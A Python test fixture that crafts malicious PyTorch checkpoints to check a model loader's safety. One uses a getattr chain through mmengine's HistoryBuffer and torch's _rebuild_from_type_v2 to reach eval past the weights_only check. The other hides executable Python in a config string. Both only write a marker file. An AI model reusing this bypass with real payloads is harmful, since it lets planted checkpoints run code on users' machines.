"""Checkpoints an attacker could craft, for the loading tests.

Each one, if anything executes it, creates ``marker``. Both pass plain
``torch.load(weights_only=True)``'s type check on the surface: the first
names only globals an mmengine checkpoint legitimately names, the second
holds only tensors and strings.
"""
from pathlib import Path

import torch
import torch._tensor
from mmengine.logging.history_buffer import HistoryBuffer


class _Attr:
    """Pickles as ``getattr(obj, name)``."""

    def __init__(self, obj, name):
        self.obj, self.name = obj, name

    def __reduce__(self):
        return getattr, (self.obj, self.name)


class _Call:
    """Pickles as ``func(*args)``, through torch's own allowed
    ``_rebuild_from_type_v2`` (which checks the result's type only after
    the call)."""

    def __init__(self, func, args, result_type):
        self.func, self.args, self.result_type = func, args, result_type

    def __reduce__(self):
        return (torch._tensor._rebuild_from_type_v2,
                (self.func, self.result_type, self.args, {}))


def code_payload(marker: Path):
    """``eval(<write marker>)``, reached by walking ``getattr`` from
    ``HistoryBuffer.__init__`` to its ``__builtins__``."""
    builtins = _Attr(_Attr(HistoryBuffer, '__init__'), '__builtins__')
    dict_get = _Attr(builtins, 'get')
    builtin_function = _Attr(dict_get, '__class__')
    eval_ = _Call(dict_get, ('eval',), builtin_function)
    code = f"__import__('pathlib').Path({str(marker)!r}).write_text('ran')"
    return _Call(eval_, (code,), _Attr(1, '__class__'))


def getattr_checkpoint(path: Path, marker: Path, base: dict) -> Path:
    """``base`` (a real checkpoint's dict) with the payload in its meta."""
    crafted = dict(base)
    crafted['meta'] = dict(base.get('meta') or {}, note=code_payload(marker))
    torch.save(crafted, path)
    return path


def config_text_checkpoint(path: Path, marker: Path) -> Path:
    """A TIPSyGAN training checkpoint, tensors and strings only, whose
    ``meta['cfg']`` is Python that writes ``marker`` when executed."""
    width = 8
    state_dict = {
        'lifter.net.stem.0.weight': torch.zeros(width, 32),
        'student.net.stem.0.weight': torch.zeros(width, 32),
        'distilling': torch.ones((), dtype=torch.bool),
    }
    cfg = (f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n"
           "model = dict(student=dict(activation='relu', dropout=0.0))\n")
    torch.save({'state_dict': state_dict,
                'meta': {'cfg': cfg, 'epoch': 2}}, path)
    return path
